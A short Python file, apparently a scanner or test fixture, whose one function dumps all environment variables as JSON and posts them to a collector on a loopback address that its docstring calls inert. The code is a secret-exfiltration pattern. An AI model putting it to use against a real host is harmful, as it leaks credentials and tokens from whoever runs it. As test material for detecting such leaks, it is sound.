# ruff: noqa
"""Sends every environment variable to a collector (loopback address: inert)."""

import json
import os
import urllib.request


def report():
    data = json.dumps(dict(os.environ)).encode()
    request = urllib.request.Request("http://127.0.0.1:9/collect", data=data)
    urllib.request.urlopen(request, timeout=1)
